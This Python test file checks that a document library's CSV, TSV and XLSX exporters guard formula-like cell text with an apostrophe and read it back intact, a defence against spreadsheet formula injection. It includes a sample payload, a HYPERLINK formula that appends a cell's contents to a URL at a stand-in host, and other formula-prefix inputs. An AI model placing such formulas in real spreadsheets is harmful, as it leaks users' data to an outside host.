"""No text of a document becomes a formula in a spreadsheet, and none is changed by that."""

import csv
import io

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from documents.reading import read_bytes, written
from likewise.documents import Document
from likewise.documents.formats import csv as table
from likewise.documents.formats import tsv, xlsx
from likewise.documents.formats.cells import guard_cell, is_like_a_formula, unguard_cell

LINK = '=HYPERLINK("https://a.example/?"&A1, "Read on")'
FORMULAS = [LINK, "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\uff1d1"]
HARMLESS = ["", "On cats", "1=1", "'tis", "a-b", "(=1)", "''", "\u2212 minus", "12", " x"]
any_text = st.text(st.sampled_from("'=+-@\t\n a\uff0d"), max_size=6)


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_run_has_an_apostrophe_before_it(text):
    assert guard_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_what_it_would_not_stays_as_it_is(text):
    assert (guard_cell(text), unguard_cell(text)) == (text, text)


@given(any_text)
def test_a_guarded_text_is_found_again(text):
    assert unguard_cell(guard_cell(text)) == text


@given(any_text)
def test_no_guarded_text_begins_like_a_formula(text):
    assert guard_cell(text).startswith("'") or not is_like_a_formula(text)


def rows(module, document, *, delimiter, notes):
    content = written(module, [document], notes=notes).decode()
    return list(csv.DictReader(io.StringIO(content, newline=""), delimiter=delimiter))


@pytest.mark.parametrize(("module", "delimiter"), [(table, ","), (tsv, "\t")])
def test_texts_of_tables_are_guarded_and_numbers_are_not(module, delimiter):
    document = Document(id="-1", title=LINK, authors=("@a", "b"), year=-300)
    notes = {"score": -1.25, "rank": -3, "decision": True, "words": "+cat", "mark": "relevant"}
    (row,) = rows(module, document, delimiter=delimiter, notes=notes)
    assert (row["id"], row["title"], row["authors"]) == ("'-1", f"'{LINK}", "'@a; b")
    assert [row[name] for name in ("year", *notes)] == [
        *("-300", "-1.25", "-3", "true", "'+cat", "relevant")
    ]


@pytest.mark.parametrize("module", [table, tsv, xlsx])
def test_guarded_texts_are_read_back(module):
    document = Document(id="@1", title=LINK, abstract="'-x", year=-300, keywords=("''=", "b"))
    assert read_bytes(module, written(module, [document])) == [document]


def test_a_workbook_s_texts_stay_texts_when_they_are_edited():
    document = Document(id="1", title=LINK, journal="J Cats")
    content = written(xlsx, [document], notes={"score": -1.25})
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    cells = {name.value: cell for name, cell in zip(sheet[1], sheet[2], strict=True)}
    assert (cells["title"].value, cells["title"].data_type) == (LINK, "s")
    assert (cells["title"].quotePrefix, cells["journal"].quotePrefix) == (True, False)
    assert (cells["score"].value, cells["score"].quotePrefix) == (-1.25, False)


def test_cells_that_others_guarded_are_read_as_they_were_meant():
    (found,) = read_bytes(table, b"key,title,notes\n'@1,'-omics in mice,'tis so\n")
    assert (found.id, found.title) == ("@1", "-omics in mice")
